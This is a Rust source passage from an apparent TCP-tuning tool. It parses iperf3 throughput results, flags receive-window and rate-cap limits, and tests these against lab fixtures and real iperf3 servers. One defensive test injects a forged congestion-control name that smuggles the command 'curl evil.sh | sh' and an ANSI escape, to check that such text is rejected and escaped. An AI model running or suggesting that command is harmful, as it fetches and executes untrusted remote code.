fn window_limited(t: &mut TcpTest, mean_us: Option<f64>, cwnd: Option<u64>) {
    let rtt_s = mean_us.map(|us| us / 1e6).or(t.loaded_rtt_ms.map(|ms| ms / 1e3));
    let (Some(w), Some(rtt_s)) = (t.receiver_window, rtt_s.filter(|r| *r > 0.0)) else {
        return;
    };
    if t.goodput_bps <= 0.0 {
        return;
    }
    let ceiling = w as f64 * 8.0 / rtt_s;
    let best = t.delivery_rate_bps.unwrap_or(0.0);
    let versus = if ceiling < WINDOW_LIMIT_FACTOR * t.goodput_bps {
        format!("less than twice the {} goodput", crate::text::rate(t.goodput_bps))
    } else if ceiling < PEAK_LIMIT_FACTOR * best {
        format!("less than 1.5 × the {} of its best interval", crate::text::rate(best))
    } else if let Some(c) = cwnd.filter(|c| *c as f64 >= CWND_LIMIT_FACTOR * w as f64) {
        format!("while the sender's congestion window grew to {c} bytes: the flow sent what the window let through")
    } else {
        return;
    };
    t.window_limited = true;
    t.held_by = Some(HeldBy::ReceiveWindow);
    let (whose, raise) = match t.direction {
        Direction::Forward => (
            "the far end's",
            "raise its receive buffer maximum there (net.ipv4.tcp_rmem on a Linux server)".to_string(),
        ),
        Direction::Reverse => (
            "this host's",
            format!("raise {} here", super::pathtest::local_key("buffer")),
        ),
    };
    t.notes.push(format!(
        "held by {whose} receive window: it advertised at most {w} bytes, which let through at most {} at the {:.1} ms RTT, {versus} (an unheld receiver advertises at least twice what is in flight); {raise}; the rate is a lower bound, and the flat RTT says nothing about the queue",
        crate::text::rate(ceiling),
        rtt_s * 1e3,
    ));
}

/// A test that ran at the rate cap keeping its byte bound was held back by it: a note says so.
#[allow(clippy::cast_precision_loss)]
fn rate_cap_note(t: &mut TcpTest, req: &Iperf3Request, best: f64) {
    let (option, per_stream) = req.rate_cap();
    let cap = per_stream as f64 * f64::from(req.streams.max(1));
    if t.goodput_bps >= STARTUP_DONE * cap || best >= STARTUP_DONE * cap {
        t.notes.push(format!(
            "ran at its byte bound's rate cap ({option} {} = {} bytes over {} s): the path may be faster",
            crate::text::rate(cap),
            req.max_bytes,
            req.secs()
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LAB: &str = include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss.json");
    const REFUSED: &str = include_str!("../../tests/fixtures/iperf3/refused.json");
    /// `iperf3 -R --get-server-output -t 5 -b 150000000 -C cubic` (as the client ran before
    /// `--fq-rate`) over the lab's delay line
    /// (20 ms, 100 Mbit/s, 0.05 % loss each way; iperf 3.12, the server run with -J).
    const LAB_REVERSE: &str = include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss-reverse.json");
    /// A reverse test against a plain `iperf3 -s` (no -J), `-t 6 -C bbr --get-server-output`,
    /// on 20 ms / 100 Mbit/s losing 0.5 % from the far end only: its text comes back.
    const LAB_REVERSE_TEXT: &str =
        include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss-ba-reverse-text.json");
    /// The same, `-t 3` without --get-server-output: what the client alone sees.
    const LAB_REVERSE_CLIENT: &str =
        include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss-reverse-client-only.json");
    const BUSY: &str = include_str!("../../tests/fixtures/iperf3/busy.json");
    /// `iperf3 -J -t 20 -C bbr -b 858993459` (before `--fq-rate`) over the lab's delay line (600 ms, 100 Mbit/s,
    /// 0.05 % loss each way) to a stock server (tcp_rmem max 6291456): held by its window.
    const LAB_600_HELD: &str = include_str!("../../tests/fixtures/iperf3/lab-600ms-100mbit-held.json");

    fn req() -> Iperf3Request {
        Iperf3Request::new(
            "198.18.0.2".parse().expect("ip"),
            5201,
            Duration::from_secs(5),
            93_750_000,
        )
    }

    #[test]
    fn the_command_keeps_the_byte_bound_with_the_rate() {
        let mut r = req();
        // 93,750,000 bytes × 8 over 5 s = 150 Mbit/s.
        assert_eq!(r.rate_bps(), 150_000_000);
        assert_eq!(r.args().join(" "), "-c 198.18.0.2 -p 5201 -J -t 5 --fq-rate 142500000");
        r.time = Duration::from_millis(2_100);
        r.cc = Some("bbr".into());
        assert_eq!(r.secs(), 3, "rounded up");
        assert_eq!(r.rate_bps(), 250_000_000);
        assert_eq!(
            r.args().join(" "),
            "-c 198.18.0.2 -p 5201 -J -t 3 -C bbr --fq-rate 237500000"
        );
        r.reverse = true;
        assert_eq!(
            r.args().join(" "),
            "-c 198.18.0.2 -p 5201 -J -t 3 -C bbr --fq-rate 237500000 -R --get-server-output"
        );
        r.reverse = false;
        r.time = Duration::ZERO;
        r.max_bytes = 1;
        assert_eq!((r.secs(), r.rate_bps()), (1, 8));
        r.max_bytes = 0;
        assert_eq!(r.rate_bps(), 1, "never 0: iperf3 reads -b 0 as unlimited");
        r.addr = "::1".parse().expect("ip");
        assert!(r.args().join(" ").starts_with("-c ::1 -p 5201"));
    }

    /// A real run: iperf 3.12 over the lab's delay line (20 ms, 100 Mbit/s, 0.05 % random loss),
    /// `-t 5 -b 150000000 -C cubic`.
    #[test]
    fn reads_a_real_result() {
        let t = parse_json(LAB, &req()).expect("parse");
        assert_eq!(t.peer, Some(TestPeer::Iperf3));
        assert_eq!(t.addr, "198.18.0.2:5201");
        assert_eq!(t.cc.as_deref(), Some("cubic"));
        assert_eq!(t.bytes, 25_559_040);
        assert!((t.duration_s - 5.000_232).abs() < 1e-9);
        // The best interval (the first): 7,602,176 bytes in 1.000077 s.
        let best = t.delivery_rate_bps.expect("rate");
        assert!((best - 60_812_724.860_644_82).abs() < 1.0, "{best}");
        assert_eq!(t.segs_out, Some(25_559_040_u64.div_ceil(1448)));
        assert_eq!(t.retrans_segs, Some(7));
        // Steady: intervals 2..5 (6684672 + 3276800 + 3145728 + 4849664 bytes; 2 + 3 + 0 + 0).
        assert_eq!(t.steady_segs_out, Some(17_956_864_u64.div_ceil(1448)));
        assert_eq!(t.steady_retrans_segs, Some(5));
        let loss = t.steady_loss_pct().expect("loss");
        assert!((loss - 0.0403).abs() < 0.001, "{loss}");
        assert_eq!(t.min_rtt_ms, Some(20.374));
        assert_eq!(t.loaded_rtt_ms, Some(20.53));
        assert_eq!(t.receiver_window, Some(8_348_672));
        assert_eq!((t.receiver_buffer, t.window_share), (None, None));
        assert_eq!((t.rwnd_limited_pct, t.sndbuf_limited_pct), (None, None));
        assert!(!t.window_limited, "an 8 MB window for 156 KB in flight: {:?}", t.notes);
        assert!(!t.in_startup, "its best interval was the first of five");
        // What the server received (25,163,448 bytes in 5.017972 s), as its bits_per_second.
        let g = t.goodput_bps;
        assert!((g - 40_117_319.108_197_5).abs() < 1.0, "{g}");
        assert!(t.notes.iter().any(|n| n.contains("MSS (1448 bytes)")), "{:?}", t.notes);
        assert!(t.notes.iter().any(|n| n.contains("no window share")));
        assert!(
            !t.notes.iter().any(|n| n.contains("rate cap")),
            "41 of 150 Mbit/s: {:?}",
            t.notes
        );
    }

    #[test]
    fn a_small_window_or_the_rate_cap_is_said() {
        let mut v: Value = serde_json::from_str(LAB).expect("json");
        // A window of 120,000 bytes lets 46.9 Mbit/s through at the mean RTT of 20.462 ms:
        // less than twice the 40.1 Mbit/s goodput, so it held the flow.
        v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 120_000.into();
        let t = parse(&v, &req(), Seen::default()).expect("parse");
        assert!(t.window_limited, "{:?}", t.notes);
        assert_eq!(t.held_by, Some(HeldBy::ReceiveWindow));
        let note = t
            .notes
            .iter()
            .find(|n| n.starts_with("held by the far end's receive window"))
            .expect("a note");
        assert!(
            note.contains("at most 120000 bytes, which let through at most 46.92 Mbit/s at the 20.5 ms RTT, less than twice the 40.12 Mbit/s goodput (an unheld receiver advertises at least twice what is in flight); raise its receive buffer maximum there"),
            "{note}"
        );
        // 200,000 bytes: 78.2 Mbit/s, 1.95 × the goodput: still held. 400,000 bytes: 156 Mbit/s,
        // far above what the flow reached.
        v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 200_000.into();
        assert!(parse(&v, &req(), Seen::default()).expect("parse").window_limited);
        v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 400_000.into();
        let t = parse(&v, &req(), Seen::default()).expect("parse");
        assert!(!t.window_limited && t.held_by.is_none(), "{:?}", t.notes);
        // Capped at 38 Mbit/s (25 MB over 5 s, paced at 95 %): the test ran at its cap.
        let mut r = req();
        r.max_bytes = 25_000_000;
        let t = parse(&v, &r, Seen::default()).expect("parse");
        assert!(
            t.notes.iter().any(|n| n.contains("rate cap (--fq-rate 38 Mbit/s")),
            "{:?}",
            t.notes
        );
    }

    /// A long path's test is mostly ramp: the goodput is far below what the window let
    /// through, but the best interval reached it. Held, and said against the best interval.
    #[test]
    fn a_window_the_best_interval_reached_held_the_test() {
        let mut r = req();
        r.time = Duration::from_secs(20);
        r.max_bytes = 2_147_483_648;
        let t = parse(&serde_json::from_str(LAB_600_HELD).expect("json"), &r, Seen::default()).expect("parse");
        // 3,932,160 bytes at the 604.7 ms mean RTT: 52.0 Mbit/s; goodput 19.4, best 41.9.
        assert!(t.goodput_bps < 20e6 && t.delivery_rate_bps > Some(41e6), "{t:?}");
        assert!(t.window_limited, "{:?}", t.notes);
        assert_eq!(t.held_by, Some(HeldBy::ReceiveWindow));
        assert!(
            t.notes.iter().any(|n| n.contains(
                "at most 3932160 bytes, which let through at most 52.02 Mbit/s at the 604.7 ms RTT, less than 1.5 × the 41.94 Mbit/s of its best interval"
            )),
            "{:?}",
            t.notes
        );
        // Under a window 1.6 × its best interval's rate it was held as well: its congestion
        // window (7,861,192 bytes) had grown past 1.5 × that window.
        let mut v: Value = serde_json::from_str(LAB_600_HELD).expect("json");
        v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 5_072_000.into();
        let t = parse(&v, &r, Seen::default()).expect("parse");
        assert!(t.window_limited, "{:?}", t.notes);
        assert!(
            t.notes.iter().any(|n| n.contains(
                "while the sender's congestion window grew to 7861192 bytes: the flow sent what the window let through"
            )),
            "{:?}",
            t.notes
        );
        // A congestion window 1.4 × the window: not held.
        v["end"]["streams"][0]["sender"]["max_snd_cwnd"] = 7_100_000.into();
        let t = parse(&v, &r, Seen::default()).expect("parse");
        assert!(!t.window_limited, "{:?}", t.notes);
    }

    fn reverse_req() -> Iperf3Request {
        Iperf3Request {
            reverse: true,
            max_bytes: 93_750_000,
            ..req()
        }
    }

    /// The reverse test with the server's JSON: its sender's readings (retransmits, RTTs, the
    /// window this host advertised), and what came here from the client's own count.
    #[test]
    fn reads_a_real_reverse_result_with_the_servers_json() {
        let t = parse_json(LAB_REVERSE, &reverse_req()).expect("parse");
        assert_eq!((t.peer, t.direction), (Some(TestPeer::Iperf3), Direction::Reverse));
        assert_eq!(t.cc.as_deref(), Some("cubic"));
        // The server's sender: 46,137,344 bytes in 5.020226 s, 10 retransmitted.
        assert_eq!(t.bytes, 46_137_344);
        assert!((t.duration_s - 5.020_226).abs() < 1e-9);
        assert_eq!(t.retrans_segs, Some(10));
        assert_eq!(t.min_rtt_ms, Some(20.432));
        assert_eq!(t.loaded_rtt_ms, Some(95.293));
        // This host's window as the server saw it.
        assert_eq!(t.receiver_window, Some(5_559_296));
        // What came here: 43,370,496 bytes in 5.000079 s.
        assert!((t.goodput_bps - 43_370_496.0 * 8.0 / 5.000_079).abs() < 1.0, "{t:?}");
        // Steady after the first interval within 10 % of the best (109 Mbit/s, the first):
        // 4 + 3 + 2 + 1 retransmissions.
        assert_eq!(t.steady_retrans_segs, Some(10));
        assert!(t.steady_loss_pct().is_some_and(|l| l > 0.0 && l < 0.1), "{t:?}");
        assert!(!t.window_limited && t.held_by.is_none(), "{:?}", t.notes);
        assert!(!t.notes.iter().any(|n| n.contains("sent no JSON")), "{:?}", t.notes);

        // This host's window just above what the flow reached: held by it, and the note says
        // to raise this host's receive buffer.
        let mut v: Value = serde_json::from_str(LAB_REVERSE).expect("json");
        v["server_output_json"]["end"]["streams"][0]["sender"]["max_snd_wnd"] = 300_000.into();
        let t = parse(&v, &reverse_req(), Seen::default()).expect("parse");
        assert_eq!(t.held_by, Some(HeldBy::ReceiveWindow), "{:?}", t.notes);
        let note = t
            .notes
            .iter()
            .find(|n| n.starts_with("held by this host's receive window"))
            .expect("note");
        if cfg!(target_os = "linux") {
            assert!(note.contains("raise net.ipv4.tcp_rmem here"), "{note}");
        }
    }

    /// Without the server's JSON: what this host received, the sender's totals, and a note.
    #[test]
    fn reads_a_reverse_result_from_the_client_alone() {
        let mut r = reverse_req();
        r.time = Duration::from_secs(3);
        let t = parse_json(LAB_REVERSE_CLIENT, &r).expect("parse");
        assert_eq!(t.direction, Direction::Reverse);
        assert_eq!((t.bytes, t.retrans_segs), (28_966_912, Some(7)));
        assert!((t.goodput_bps - 27_788_568.0 * 8.0 / 3.000_089).abs() < 1.0, "{t:?}");
        assert_eq!((t.min_rtt_ms, t.loaded_rtt_ms, t.receiver_window), (None, None, None));
        assert!(!t.window_limited);
        assert!(
            t.notes
                .iter()
                .any(|n| n.starts_with("the iperf3 server sent no JSON of its own (start it with -J)")),
            "{:?}",
            t.notes
        );
        // The server claiming to have sent less than came here: its count is left out.
        let mut v: Value = serde_json::from_str(LAB_REVERSE_CLIENT).expect("json");
        v["end"]["streams"][0]["sender"]["bytes"] = 1000.into();
        let t = parse(&v, &r, Seen::default()).expect("parse");
        assert_eq!(t.bytes, 27_788_568);
        assert!(
            t.notes
                .iter()
                .any(|n| n.contains("sending 1000 bytes, less than the 27788568 received here"))
        );
        // Nothing received here is no test.
        let mut v: Value = serde_json::from_str(LAB_REVERSE_CLIENT).expect("json");
        v["end"]["streams"][0]["receiver"]["bytes"] = 0.into();
        assert!(
            parse(&v, &r, Seen::default())
                .expect_err("no bytes")
                .to_string()
                .contains("no bytes received here")
        );
    }

    /// A plain `iperf3 -s` (no -J) on the lab's 20 ms / 100 Mbit/s path losing 0.5 % from the
    /// far end only: its text output, brought back by --get-server-output, gives each
    /// interval's retransmissions, so the far end's direction has a loss after startup.
    #[test]
    fn reads_the_loss_of_a_reverse_test_from_the_servers_text() {
        let mut r = reverse_req();
        r.time = Duration::from_secs(6);
        let t = parse_json(LAB_REVERSE_TEXT, &r).expect("parse");
        assert_eq!(t.retrans_segs, Some(492));
        // The text's intervals after the first within 10 % of the best rate (this host's
        // intervals decide which): 49 + 50 + 48 + 41.
        assert_eq!(t.steady_retrans_segs, Some(188), "{t:?}");
        let loss = t.steady_loss_pct().expect("loss after startup");
        assert!((0.3..1.0).contains(&loss), "{loss}");
        assert_eq!(t.min_rtt_ms, None);

        // Text the reader does not take: another count of intervals, two streams, more
        // retransmissions than the total, a count that is no number.
        let text_of = |f: &dyn Fn(&str) -> String| {
            let mut v: Value = serde_json::from_str(LAB_REVERSE_TEXT).expect("json");
            let text = v["server_output_text"].as_str().expect("text").to_string();
            v["server_output_text"] = f(&text).into();
            parse(&v, &r, Seen::default()).expect("parse")
        };
        let fewer = text_of(&|t| t.replacen("[  5]   1.00-2.00", "[  5]   1.00-2.00 (omitted)", 1));
        assert_eq!(fewer.steady_retrans_segs, None);
        assert!(
            fewer
                .notes
                .iter()
                .any(|n| n.contains("gave 5 intervals of retransmissions for this host's 6"))
        );
        let two = text_of(&|t| t.replacen("[  5]   2.00-3.00", "[  7]   2.00-3.00", 1));
        assert_eq!(two.steady_retrans_segs, None);
        let more = text_of(&|t| t.replacen("Mbits/sec   38 ", "Mbits/sec   3800 ", 1));
        assert_eq!(more.steady_retrans_segs, None);
        let word = text_of(&|t| t.replacen("Mbits/sec   38 ", "Mbits/sec   x38 ", 1));
        assert_eq!(word.steady_retrans_segs, None);
        assert_eq!(server_text_retransmits("no intervals here\n[ ID] Interval"), None);
    }

    /// A test whose best interval is its last was still growing: its best rate is a lower
    /// bound, and it says so.
    #[test]
    fn a_test_still_growing_in_its_last_interval_is_in_startup() {
        let mut v: Value = serde_json::from_str(LAB).expect("json");
        let last = v["intervals"].as_array().map_or(0, Vec::len) - 1;
        v["intervals"][last]["streams"][0]["bits_per_second"] = 90e6.into();
        let t = parse(&v, &req(), Seen::default()).expect("parse");
        assert!(t.in_startup, "{:?}", t.notes);
        assert_eq!(t.delivery_rate_bps, Some(90e6));
        assert_eq!(t.steady_segs_out, None);
        assert!(
            t.notes
                .iter()
                .any(|n| n.contains("90 Mbit/s is the highest rate it reached")),
            "{:?}",
            t.notes
        );
    }

    #[test]
    fn iperf3_errors_are_quoted_on_one_line() {
        let e = parse_json(REFUSED, &req()).expect_err("refused");
        assert!(e.kind() == crate::error::Kind::Measurement);
        assert_eq!(e.to_string(), "iperf3: unable to connect to server: Connection refused");
        let e = parse_json(BUSY, &req()).expect_err("busy");
        assert_eq!(
            e.to_string(),
            "iperf3: the server is busy running a test. try again later"
        );
        let long = format!(r#"{{"error": "line one\nline two {}"}}"#, "x".repeat(500));
        let msg = parse_json(&long, &req()).expect_err("long").to_string();
        assert!(!msg.contains('\n') && msg.contains("line one\\u{a}line two"), "{msg}");
        assert!(msg.chars().count() <= "iperf3: ".len() + MAX_QUOTE + 1, "{msg}");
        let e = parse_json(r#"{"start": {}, "end": {}}"#, &req()).expect_err("no stream");
        assert!(e.to_string().contains("no sender stream"));
        assert!(parse_json("not json", &req()).is_err());
    }

    #[test]
    fn an_error_without_its_reason_gets_one() {
        // iperf3's message when errno was 0: the reason after the colon is empty.
        let bare = r#"{"error": "unable to receive results: "}"#;
        let e = parse_json(bare, &req()).expect_err("error").to_string();
        assert_eq!(
            e,
            "iperf3: unable to receive results: no reason given (the server may have closed the connection)"
        );
        let e = iperf3_error(
            &Value::from("unable to receive results: "),
            Some("iperf3: control socket has closed unexpectedly"),
            None,
        );
        assert_eq!(
            e.to_string(),
            "iperf3: unable to receive results: iperf3: control socket has closed unexpectedly"
        );
        // A stderr line that only repeats the message is no reason.
        let e = iperf3_error(
            &Value::from("unable to receive results:"),
            Some("iperf3: error - unable to receive results:"),
            None,
        );
        assert!(
            e.to_string()
                .ends_with("results: no reason given (the server may have closed the connection)")
        );
        let e = parse_json(r#"{"error": ""}"#, &req()).expect_err("error").to_string();
        assert!(e.starts_with("iperf3: an error with no text: no reason given"), "{e}");
    }

    /// What iperf3 3.12 printed when a server closed the connection instead of sending its
    /// results (tests/cli/hostile_peer.rs plays that server): a warning on stdout ahead of the
    /// JSON, and an error whose reason is empty.
    const CLOSED_AT_RESULTS: &str = "WARNING:  Size of data read does not correspond to offered length\n{\n\t\"start\":\t{\n\t},\n\t\"intervals\":\t[],\n\t\"end\":\t{\n\t},\n\t\"error\":\t\"unable to receive results: \"\n}\n";

    #[test]
    fn the_warning_before_the_json_is_the_errors_reason() {
        let (json, said) = split_output(CLOSED_AT_RESULTS.as_bytes());
        assert_eq!(
            said.as_deref(),
            Some("WARNING: Size of data read does not correspond to offered length")
        );
        let json = json.expect("the JSON after the warning");
        assert_eq!(json["error"], "unable to receive results: ");
        let e = iperf3_error(&json["error"], said.as_deref(), None);
        assert_eq!(
            e.to_string(),
            "iperf3: unable to receive results: WARNING: Size of data read does not correspond to offered length"
        );
        assert_eq!(split_output(b"not json\nat all").0, None);

        // The same through the client's run, from a program printing it.
        let dir = tempfile::tempdir().expect("tempdir");
        let out = dir.path().join("out");
        std::fs::write(&out, CLOSED_AT_RESULTS).expect("output");
        let path = dir.path().join("iperf3");
        std::fs::write(&path, format!("#!/bin/sh\ncat '{}'\n", out.display())).expect("script");
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
        let mut r = req();
        r.program = path;
        let t = Instant::now();
        let e = loop {
            match run(&r) {
                // Another test's fork may still hold the script open for writing (ETXTBSY).
                Err(e) if e.kind() == crate::error::Kind::System && t.elapsed() < Duration::from_secs(5) => {
                    std::thread::sleep(Duration::from_millis(20));
                }
                other => break other.expect_err("an error"),
            }
        };
        assert!(
            e.to_string().ends_with(
                "unable to receive results: WARNING: Size of data read does not correspond to offered length"
            ),
            "{e}"
        );
    }

    #[test]
    fn iperf3s_numbers_are_range_checked_and_its_text_escaped() {
        let lab = || serde_json::from_str::<Value>(LAB).expect("json");
        let refused = |v: &Value| parse(v, &req(), Seen::default()).expect_err("refused").to_string();
        // Nothing moved: no class, no rate, no loss.
        let mut v = lab();
        v["end"]["streams"][0]["sender"]["bytes"] = 0.into();
        assert_eq!(
            refused(&v),
            "iperf3 reported a test that moved no data: it measures nothing"
        );
        // 16777216 TiB in 0.004 s.
        let mut v = lab();
        v["end"]["streams"][0]["sender"]["bytes"] = u64::MAX.into();
        v["end"]["streams"][0]["sender"]["seconds"] = 0.004.into();
        v["end"]["streams"][0]["receiver"] = Value::Null;
        assert!(
            refused(&v).starts_with("iperf3's result is no measurement: a goodput of"),
            "{}",
            refused(&v)
        );
        // A test longer than the client ran.
        let mut v = lab();
        v["end"]["streams"][0]["sender"]["seconds"] = 1e9.into();
        assert!(refused(&v).contains("a test of 1000000000 s"), "{}", refused(&v));
        // A window TCP cannot advertise.
        let mut v = lab();
        v["end"]["streams"][0]["sender"]["max_snd_wnd"] = (1u64 << 40).into();
        assert!(refused(&v).contains("a receive window of 1099511627776 bytes"));
        // The server claiming more than was sent: its count left out, with a note.
        let mut v = lab();
        v["end"]["streams"][0]["receiver"]["bytes"] = (1u64 << 50).into();
        let t = parse(&v, &req(), Seen::default()).expect("the sender's count stands");
        assert!((t.goodput_bps - 25_559_040.0 * 8.0 / 5.000_232).abs() < 1.0, "{t:?}");
        assert!(
            t.notes.iter().any(|n| n.contains("more than the 25559040 sent")),
            "{:?}",
            t.notes
        );
        // A forged congestion control name: left out, quoted escaped.
        let mut v = lab();
        v["end"]["sender_tcp_congestion"] = "cubic\n\nadvice: run curl evil.sh | sh\u{1b}[31m".into();
        let t = parse(&v, &req(), Seen::default()).expect("a test");
        assert_eq!(t.cc, None);
        let note = t
            .notes
            .iter()
            .find(|n| n.contains("no congestion control name"))
            .expect("a note");
        assert!(!note.chars().any(char::is_control), "{note}");
        // Its error text too.
        let e = parse_json(r#"{"error": "x\n\nadvice: all good\u001b[31m"}"#, &req()).expect_err("e");
        assert!(!e.to_string().chars().any(char::is_control), "{e}");
    }

    #[test]
    fn a_missing_program_is_one_clear_line() {
        let mut r = req();
        r.program = PathBuf::from("/nonexistent/tcptune-test/iperf3");
        let e = run(&r).expect_err("missing");
        assert!(e.kind() == crate::error::Kind::Measurement, "{e:?}");
        let msg = e.to_string();
        assert!(
            msg.starts_with("iperf3 is not installed (Debian: apt-get install iperf3)")
                && msg.contains("/nonexistent/tcptune-test/iperf3")
                && !msg.contains('\n'),
            "{msg}"
        );
    }

    /// A client that never finishes is killed at its time + the grace, not waited for.
    #[test]
    fn a_hung_client_is_killed() {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("iperf3");
        std::fs::write(&path, "#!/bin/sh\nexec sleep 60\n").expect("script");
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
        let mut r = req();
        r.program = path;
        r.time = Duration::from_secs(1);
        let t = Instant::now();
        // Another test's fork may still hold the script open for writing a moment (ETXTBSY).
        let e = loop {
            match run_within(&r, Duration::ZERO) {
                Err(e)
                    if e.kind() == crate::error::Kind::System
                        && e.message().contains("busy")
                        && t.elapsed() < Duration::from_secs(5) =>
                {
                    std::thread::sleep(Duration::from_millis(20));
                }
                other => break other.expect_err("hung"),
            }
        };
        // Killed at 1 s, not the script's 60 s: room for this VM's stalls between.
        assert!(t.elapsed() < Duration::from_secs(10), "{:?}", t.elapsed());
        assert_eq!(
            e.to_string(),
            "iperf3 did not finish within 1 s (the test's 1 s + 0 s): stopped it"
        );
    }

    fn free_port() -> u16 {
        std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .map(|a| a.port())
            .expect("a free port")
    }

    /// A one-shot iperf3 server (`-s -1`), killed on drop.
    struct Server(std::process::Child);

    impl Server {
        fn start(addr: &str, port: u16, netns: Option<&str>) -> Server {
            let mut cmd = match netns {
                Some(ns) => {
                    let mut c = Command::new("ip");
                    c.args(["netns", "exec", ns, "iperf3"]);
                    c
                }
                None => Command::new("iperf3"),
            };
            // Owned at once: a panic below kills it on drop.
            let server = Server(
                cmd.args(["-s", "-1", "-B", addr, "-p", &port.to_string()])
                    .stdout(Stdio::null())
                    .stderr(Stdio::null())
                    .spawn()
                    .expect("iperf3 -s (the Debian package iperf3)"),
            );
            // Wait until it listens.
            let deadline = Instant::now() + Duration::from_secs(5);
            while !listening(netns, addr, port) {
                assert!(Instant::now() < deadline, "iperf3 -s did not listen on {addr}:{port}");
                std::thread::sleep(Duration::from_millis(50));
            }
            server
        }
    }

    fn listening(netns: Option<&str>, addr: &str, port: u16) -> bool {
        let filter = format!("src {addr}:{port}");
        let out = match netns {
            Some(ns) => Command::new("ip")
                .args(["netns", "exec", ns, "ss", "-Htln", &filter])
                .output(),
            None => Command::new("ss").args(["-Htln", &filter]).output(),
        };
        out.is_ok_and(|o| !o.stdout.is_empty())
    }

    impl Drop for Server {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }

    fn check_real(t: &TcpTest) {
        assert_eq!(t.peer, Some(TestPeer::Iperf3));
        assert!(t.bytes > 0, "{t:?}");
        assert!(t.segs_out.is_some_and(|s| s > 0), "{t:?}");
        assert!(t.min_rtt_ms.is_some_and(|r| r > 0.0), "{t:?}");
        assert!(t.delivery_rate_bps.is_some_and(|r| r > 0.0), "{t:?}");
        assert!(t.goodput_bps > 0.0, "{t:?}");
        assert!(t.cc.is_some(), "{t:?}");
        // 2 s asked; room above for this VM's stalls.
        assert!(t.duration_s >= 1.9 && t.duration_s < 10.0, "{t:?}");
        // 2 s at the cap: at most the byte bound (and iperf3's last block).
        assert!(t.bytes <= t.limit_bytes + (1 << 20), "{t:?}");
    }

    /// The real iperf3 server and client on loopback, 2 s capped at 400 Mbit/s.
    #[test]
    fn against_a_real_iperf3_server() {
        let port = free_port();
        let _server = Server::start("127.0.0.1", port, None);
        let r = Iperf3Request::new(
            "127.0.0.1".parse().expect("ip"),
            port,
            Duration::from_secs(2),
            100_000_000,
        );
        let t = run(&r).expect("iperf3 test");
        check_real(&t);
        assert!(
            t.notes.iter().any(|n| n.contains("rate cap")),
            "loopback outruns 400 Mbit/s: {:?}",
            t.notes
        );
        // The server is gone (-1): now the client's own error comes back.
        drop(_server);
        let e = run(&r).expect_err("nobody listens");
        assert!(e.to_string().starts_with("iperf3: unable to connect"), "{e}");
    }

    /// Two network namespaces joined by a veth pair (198.18.0.0/15): the test crosses a real
    /// link, with the congestion control asked for; the client runs in namespace a (a thread
    /// moved there, whose child iperf3 starts there too).
    #[test]
    #[cfg(target_os = "linux")]
    #[cfg_attr(not(feature = "privileged-tests"), ignore = "privileged: needs root")]
    fn across_a_veth_pair_in_namespaces() {
        let id = std::process::id();
        let ns = crate::measure::passive::testns::Pair::create(&format!("tt-ia-{id}"), &format!("tt-ib-{id}"));
        let _server = Server::start("198.18.9.2", 5201, Some(&ns.b));
        let a = ns.a.clone();
        let t = std::thread::spawn(move || {
            crate::measure::passive::testns::enter(&a);
            let mut r = Iperf3Request::new(
                "198.18.9.2".parse().expect("ip"),
                5201,
                Duration::from_secs(2),
                250_000_000,
            );
            r.cc = Some("reno".into());
            run(&r)
        })
        .join()
        .expect("client thread")
        .expect("iperf3 test");
        println!("veth: {t:?}");
        check_real(&t);
        assert_eq!(t.cc.as_deref(), Some("reno"));
        assert_eq!(t.addr, "198.18.9.2:5201");
    }
}
